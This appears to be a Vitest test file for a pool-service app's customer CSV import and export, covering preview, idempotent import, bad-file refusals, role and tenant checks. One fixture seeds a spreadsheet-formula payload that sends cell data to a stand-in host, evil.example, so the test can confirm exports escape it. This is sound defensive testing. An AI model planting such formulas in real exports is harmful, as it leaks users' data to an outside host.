@@ -1,0 +1,366 @@
+// The import and export pages as a browser of each role reaches them (issue #17, OPERATIONS §3): an upload shows its
+// columns, "Preview" writes nothing, "Import" writes once per key and says what changed, a re-import says "0 new",
+// bad files get plain words and leave nothing behind; the exports escape formulas; a technician gets 403 and another
+// company's user gets nothing of this company.
+import { eq, sql } from 'drizzle-orm'
+import { unzipSync } from 'fflate'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { MAX_FILE_BYTES, TOO_LARGE } from '~/customer-import/read-csv.server'
+import { companies, customers } from '~/db/schema'
+import { seedDemoData } from '~/demo/seed.server'
+import { db, queryRows } from '~/utils/db.server'
+import { takeFlash } from '~/utils/flash.server'
+import { addTestCustomer } from '../../../tests/helpers/customers'
+import { pageRequest, settle, signInAs, TEST_ORIGIN } from '../../../tests/helpers/session'
+import { loader as exportCsv } from '../resources/customers-export'
+import { loader as exportZip } from '../resources/data-export'
+import { action, FILE_TOO_LARGE, loader, MAX_CSV_BYTES, UPLOAD_GONE } from './customers-import'
+
+const call = (request: Request) => ({ request, params: {}, context: {} }) as never
+const encode = (text: string) => new TextEncoder().encode(text)
+const status = (thrown: unknown) =>
+  (thrown as { init?: { status?: number } })?.init?.status ?? (thrown as Response)?.status
+
+type Column = { index: number; header: string; field: string; sample: string | null }
+type PageData = {
+  importKey: string
+  uploadGone: boolean
+  upload: { id: string; rows: number; encoding: string; delimiter: string; columns: Column[] } | null
+}
+type Reply = {
+  intent: string
+  result: { status?: string; error?: Record<string, string[] | null> }
+  preview: {
+    counts: string
+    changes: Array<{ label: string; text: string }>
+    problems: string[]
+    rowsWithProblems: number
+  } | null
+}
+
+const GOOD = [
+  'Customer Name,Email,Phone,Service Address,City,State,Zip,Gallons,Service Day,Technician,Rate',
+  'Rita Moreno,rita@import.test,(813) 555-0150,10 Palm Ave,Tampa,FL,33602,15000,Monday,,$90',
+  'Olu Bankole,olu@import.test,,22 Bay Rd,Tampa,FL,33611,"15,000",Tuesday,,$85',
+  'Hana Sato,hana@import.test,,5 Lake Dr,Tampa,FL,33629,12k,Wednesday,,$80',
+].join('\r\n')
+
+let owner: string
+let dispatcher: string
+let tech: string
+let otherOwner: string
+let blueId: string
+
+async function companyIdOf(name: string) {
+  const [row] = await db().select({ id: companies.id }).from(companies).where(eq(companies.name, name))
+  return row?.id ?? ''
+}
+
+async function customerCount(companyId: string) {
+  const [row] = await queryRows<{ n: number }>(
+    sql`select count(*)::int as n from customers where company_id = ${companyId}`,
+  )
+  return row?.n ?? 0
+}
+
+function uploadRequest(cookie: string, bytes: Uint8Array, name = 'customers.csv') {
+  const form = new FormData()
+  form.set('intent', 'upload')
+  form.set('file', new File([new Uint8Array(bytes)], name, { type: 'text/csv' }))
+  return new Request(`${TEST_ORIGIN}/app/customers/import`, { method: 'POST', headers: { cookie }, body: form })
+}
+
+/** Uploads like the page's form; the upload id from the redirect, or the refusal. */
+async function upload(cookie: string, bytes: Uint8Array) {
+  const { returned, thrown } = await settle(action(call(uploadRequest(cookie, bytes))))
+  if (thrown instanceof Response) {
+    const location = thrown.headers.get('Location') ?? ''
+    expect(location).toMatch(/^\/app\/customers\/import\?upload=[0-9a-f-]{36}$/)
+    return { uploadId: location.split('=')[1] as string, refusal: null }
+  }
+  const value = (returned ?? thrown) as { data: Reply; init?: { status?: number } }
+  return { uploadId: null, refusal: { status: value.init?.status, message: value.data.result.error?.file?.join(' ') } }
+}
+
+async function page(cookie: string, uploadId?: string) {
+  const path = uploadId ? `/app/customers/import?upload=${uploadId}` : '/app/customers/import'
+  const result = (await loader(call(pageRequest(path, cookie)))) as unknown
+  const value = result as { data?: PageData; init?: { status?: number } }
+  return value.data ? { ...value.data, status: value.init?.status ?? 200 } : { ...(result as PageData), status: 200 }
+}
+
+function post(cookie: string, fields: Record<string, string>) {
+  return new Request(`${TEST_ORIGIN}/app/customers/import`, {
+    method: 'POST',
+    headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' },
+    body: new URLSearchParams(fields),
+  })
+}
+
+/** The page's form as it is posted: the upload, each column's select, and the rest. */
+function mappingFields(uploadId: string, columns: Column[], extra: Record<string, string> = {}) {
+  return {
+    upload: uploadId,
+    ...Object.fromEntries(columns.map((column) => [`columns[${column.index}]`, column.field])),
+    ...extra,
+  }
+}
+
+async function preview(cookie: string, uploadId: string, columns: Column[]) {
+  const result = (await action(call(post(cookie, { intent: 'preview', ...mappingFields(uploadId, columns) })))) as
+    | Reply
+    | { data: Reply; init?: { status?: number } }
+  return 'data' in result ? { ...result.data, status: result.init?.status } : { ...result, status: 200 }
+}
+
+/** "Import": the flash message it redirects with, or its refusal. */
+async function importIt(cookie: string, uploadId: string, columns: Column[], extra: Record<string, string>) {
+  const fields = { intent: 'import', ...mappingFields(uploadId, columns, extra) }
+  const { returned, thrown } = await settle(action(call(post(cookie, fields))))
+  if (thrown instanceof Response) {
+    expect(thrown.headers.get('Location')).toBe('/app/customers')
+    const flashCookie = thrown.headers.getSetCookie().map((c) => c.split(';')[0])
+    const { flash } = await takeFlash(pageRequest('/app/customers', flashCookie.join('; ')))
+    return { message: flash?.text ?? '', refusal: null }
+  }
+  const value = returned as { data: Reply; init?: { status?: number } }
+  return { message: null, refusal: { status: value.init?.status, errors: value.data.result.error?.[''] } }
+}
+
+beforeAll(async () => {
+  await seedDemoData(db())
+  owner = await signInAs('owner@bluelagoon.test')
+  dispatcher = await signInAs('dispatch@bluelagoon.test')
+  tech = await signInAs('tech@bluelagoon.test')
+  otherOwner = await signInAs('owner@sunsetpools.test')
+  blueId = await companyIdOf('Blue Lagoon Pool Co.')
+})
+
+describe('importing customers', () => {
+  it('the page reads the file cap the import reads', () => {
+    expect(MAX_CSV_BYTES).toBe(MAX_FILE_BYTES)
+    expect(FILE_TOO_LARGE).toBe(TOO_LARGE)
+  })
+
+  it('upload → columns → Preview writes nothing → Import once per key → a re-import says 0 new', async () => {
+    const before = await customerCount(blueId)
+    const { uploadId } = await upload(dispatcher, encode(GOOD))
+    const shown = await page(dispatcher, uploadId ?? '')
+    expect(shown.upload).toMatchObject({ rows: 3, encoding: 'UTF-8', delimiter: 'commas' })
+    const columns = shown.upload?.columns ?? []
+    expect(columns.map((c) => c.field)).toEqual([
+      'customerName',
+      'email',
+      'phone',
+      'street',
+      'city',
+      'state',
+      'postalCode',
+      'gallons',
+      'serviceDay',
+      'technician',
+      'rate',
+    ])
+    expect(columns[0]?.sample).toBe('Rita Moreno')
+
+    const previewed = await preview(dispatcher, uploadId ?? '', columns)
+    expect(previewed.status).toBe(200)
+    expect(previewed.preview?.counts).toBe('3 customers, 3 service locations, 3 bodies of water, 3 service plans')
+    expect(previewed.preview?.problems).toEqual([])
+    expect(previewed.preview?.changes[0]).toEqual({ label: 'Customers', text: '3 new, 0 unchanged' })
+    expect(await customerCount(blueId)).toBe(before)
+
+    const key = crypto.randomUUID()
+    const first = await importIt(dispatcher, uploadId ?? '', columns, { idempotencyKey: key })
+    expect(first.message).toContain('Customers: 3 new, 0 unchanged.')
+    expect(await customerCount(blueId)).toBe(before + 3)
+    // The same form sent twice (a double click, a retry): one import, the same answer.
+    const again = await importIt(dispatcher, uploadId ?? '', columns, { idempotencyKey: key })
+    expect(again.message).toBe(first.message)
+    expect(await customerCount(blueId)).toBe(before + 3)
+
+    // The same file uploaded and imported again changes nothing.
+    const second = await upload(dispatcher, encode(GOOD))
+    const secondColumns = (await page(dispatcher, second.uploadId ?? '')).upload?.columns ?? []
+    const reimport = await importIt(dispatcher, second.uploadId ?? '', secondColumns, {
+      idempotencyKey: crypto.randomUUID(),
+    })
+    expect(reimport.message).toContain('Customers: 0 new, 3 unchanged.')
+    expect(await customerCount(blueId)).toBe(before + 3)
+  })
+
+  it('two copies of one Import sent at the same moment make one import', async () => {
+    const before = await customerCount(blueId)
+    const file = GOOD.replaceAll('@import.test', '@twice.test').replaceAll(' Moreno', ' Twice')
+    const { uploadId } = await upload(owner, encode(file))
+    const columns = (await page(owner, uploadId ?? '')).upload?.columns ?? []
+    const key = crypto.randomUUID()
+    const [a, b] = await Promise.all([
+      importIt(owner, uploadId ?? '', columns, { idempotencyKey: key }),
+      importIt(owner, uploadId ?? '', columns, { idempotencyKey: key }),
+    ])
+    expect(a.message).toContain('Customers: 3 new, 0 unchanged.')
+    expect(b.message).toBe(a.message)
+    expect(await customerCount(blueId)).toBe(before + 3)
+  })
+
+  it('a column set to "Don\'t import" is left out, and a mapping without a name is refused in words', async () => {
+    const { uploadId } = await upload(owner, encode(GOOD))
+    const columns = (await page(owner, uploadId ?? '')).upload?.columns ?? []
+    const noName = columns.map((c) => (c.index === 0 ? { ...c, field: 'none' } : c))
+    const refused = await preview(owner, uploadId ?? '', noName)
+    expect(refused.status).toBe(400)
+    expect(refused.result.error?.['']?.join(' ')).toContain('No column is set to Customer name')
+  })
+
+  it('rows with problems are listed in plain words and nothing is written until they are fixed or skipped', async () => {
+    const before = await customerCount(blueId)
+    const file = [
+      'Customer Name,Email,Service Address,City,State,Zip,Gallons,Technician',
+      'Ana Ruiz,ana@import.test,1 Oak St,Tampa,FL,33602,15000,',
+      'Ben Cole,ben@,2 Oak St,Tampa,FL,33602,lots,Nobody Known',
+      'Cy Park,cy@import.test,3 Oak St,Tampa,FL,33602,9000,',
+    ].join('\n')
+    const { uploadId } = await upload(dispatcher, encode(file))
+    const columns = (await page(dispatcher, uploadId ?? '')).upload?.columns ?? []
+    const previewed = await preview(dispatcher, uploadId ?? '', columns)
+    expect(previewed.preview?.rowsWithProblems).toBe(1)
+    expect(previewed.preview?.problems.length).toBeGreaterThan(0)
+    for (const problem of previewed.preview?.problems ?? []) expect(problem).toMatch(/^Row 3: /)
+    expect(previewed.preview?.problems.join(' ')).toContain("'ben@'")
+
+    const refused = await importIt(dispatcher, uploadId ?? '', columns, { idempotencyKey: crypto.randomUUID() })
+    expect(refused.refusal?.status).toBe(400)
+    expect(refused.refusal?.errors?.join(' ')).toContain('1 row has problems')
+    expect(await customerCount(blueId)).toBe(before)
+
+    const skipped = await importIt(dispatcher, uploadId ?? '', columns, {
+      idempotencyKey: crypto.randomUUID(),
+      skipRowsWithProblems: 'on',
+    })
+    expect(skipped.message).toContain('Customers: 2 new, 0 unchanged.')
+    expect(skipped.message).toContain('Skipped row with problems: 3.')
+    expect(await customerCount(blueId)).toBe(before + 2)
+  })
+
+  it('a file in the wrong shape or encoding is refused in plain words and nothing is kept', async () => {
+    const before = await customerCount(blueId)
+    const oneColumn = await upload(dispatcher, encode('Name\nRita Moreno\nOlu Bankole\n'))
+    expect(oneColumn.refusal?.status).toBe(400)
+    expect(oneColumn.refusal?.message).toContain('every line has a single value')
+
+    const workbook = await upload(dispatcher, new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0]))
+    expect(workbook.refusal?.status).toBe(400)
+    expect(workbook.refusal?.message).toMatch(/CSV/)
+
+    const binary = await upload(dispatcher, encode('Name,Address\u0000\u0001\u0002\nA\u0000,B\u0003\n'))
+    expect(binary.refusal?.status).toBe(400)
+    expect(binary.refusal?.message).toMatch(/CSV/)
+
+    const empty = await upload(dispatcher, new Uint8Array())
+    expect(empty.refusal?.status).toBe(400)
+    expect(await customerCount(blueId)).toBe(before)
+  })
+
+  it('a file over 10 MB is told to be split, without the rest of it being read', async () => {
+    const big = new Uint8Array(MAX_CSV_BYTES + 200 * 1024).fill(0x61)
+    const refused = await upload(dispatcher, big)
+    expect(refused.refusal).toEqual({ status: 400, message: TOO_LARGE })
+  })
+
+  it("an upload id that is not this company's (or is gone) shows nothing of it", async () => {
+    const sunsetId = await companyIdOf('Sunset Pool Care')
+    const sunsetBefore = await customerCount(sunsetId)
+    const { uploadId } = await upload(owner, encode(GOOD))
+    const theirs = await page(otherOwner, uploadId ?? '')
+    expect(theirs).toMatchObject({ status: 404, upload: null, uploadGone: true })
+    const columns = (await page(owner, uploadId ?? '')).upload?.columns ?? []
+    const previewed = await preview(otherOwner, uploadId ?? '', columns)
+    expect(previewed.status).toBe(404)
+    expect(previewed.preview).toBeNull()
+    expect(previewed.result.error?.['']).toEqual([UPLOAD_GONE])
+    const imported = await importIt(otherOwner, uploadId ?? '', columns, { idempotencyKey: crypto.randomUUID() })
+    expect(imported.refusal?.status).toBe(404)
+    expect(await customerCount(sunsetId)).toBe(sunsetBefore)
+  })
+
+  it('a technician gets 403 on the page, its actions and both exports', async () => {
+    for (const attempt of [
+      (): Promise<unknown> => loader(call(pageRequest('/app/customers/import', tech))),
+      () => action(call(uploadRequest(tech, encode(GOOD)))),
+      () => action(call(post(tech, { intent: 'preview' }))),
+      () => exportCsv(call(pageRequest('/app/customers/export.csv', tech))),
+      () => exportZip(call(pageRequest('/app/settings/export.zip', tech))),
+    ]) {
+      const { thrown } = await settle(attempt())
+      expect(status(thrown)).toBe(403)
+    }
+    // "Export all data" is the owner's and admins', not the dispatcher's.
+    const { thrown } = await settle(exportZip(call(pageRequest('/app/settings/export.zip', dispatcher))))
+    expect(status(thrown)).toBe(403)
+  })
+})
+
+describe('exports', () => {
+  it('"Export customers (CSV)" downloads this company\'s customers with formula cells escaped', async () => {
+    await addTestCustomer(blueId, {
+      customerName: '=HYPERLINK("http://evil.example/?x="&A1,"Invoice")',
+      address: '9 Evil Way, Tampa, FL 33602',
+      email: 'evil@import.test',
+    })
+    const response = (await exportCsv(call(pageRequest('/app/customers/export.csv', dispatcher)))) as Response
+    expect(response.status).toBe(200)
+    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
+    expect(response.headers.get('Content-Disposition')).toMatch(
+      /^attachment; filename="customers-\d{4}-\d{2}-\d{2}\.csv"$/,
+    )
+    const text = await response.text()
+    expect(text).toContain('Marcus Bell')
+    expect(text).not.toContain('Marco Ruiz')
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Invoice"")"`)
+    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m)
+
+    const theirs = await (
+      (await exportCsv(call(pageRequest('/app/customers/export.csv', otherOwner)))) as Response
+    ).text()
+    expect(theirs).toContain('Marco Ruiz')
+    expect(theirs).not.toContain('Marcus Bell')
+    expect(theirs).not.toContain('HYPERLINK')
+  })
+
+  it('"Export all data" is a ZIP of CSVs of this company only, formulas escaped', async () => {
+    const response = (await exportZip(call(pageRequest('/app/settings/export.zip', owner)))) as Response
+    expect(response.headers.get('Content-Type')).toBe('application/zip')
+    expect(response.headers.get('Content-Disposition')).toMatch(/^attachment; filename="pool-bud-export-/)
+    const files = unzipSync(new Uint8Array(await response.arrayBuffer()))
+    expect(Object.keys(files)).toEqual([
+      'customers.csv',
+      'locations.csv',
+      'bodies-of-water.csv',
+      'service-plans.csv',
+      'visits.csv',
+      'readings.csv',
+      'invoices.csv',
+      'payments.csv',
+    ])
+    const read = (name: string) => new TextDecoder().decode(files[name]).replace(/^\uFEFF/, '')
+    const customersCsv = read('customers.csv')
+    expect(customersCsv).toContain('Marcus Bell')
+    expect(customersCsv).not.toContain('Marco Ruiz')
+    expect(customersCsv).toContain(`"'=HYPERLINK(`)
+    const [blueCustomers] = await queryRows<{ n: number }>(
+      sql`select count(*)::int as n from ${customers} where company_id = ${blueId}`,
+    )
+    expect(customersCsv.trim().split('\r\n')).toHaveLength((blueCustomers?.n ?? 0) + 1)
+    expect(read('visits.csv').split('\r\n').length).toBeGreaterThan(2)
+    expect(read('readings.csv').split('\r\n').length).toBeGreaterThan(2)
+    expect(read('invoices.csv')).toBe('Invoice ID,Customer ID,Number,Issued on,Due on,Total,Status\r\n')
+
+    const theirs = unzipSync(
+      new Uint8Array(
+        await ((await exportZip(call(pageRequest('/app/settings/export.zip', otherOwner)))) as Response).arrayBuffer(),
+      ),
+    )
+    expect(new TextDecoder().decode(theirs['customers.csv'])).not.toContain('Marcus Bell')
+  })
+})
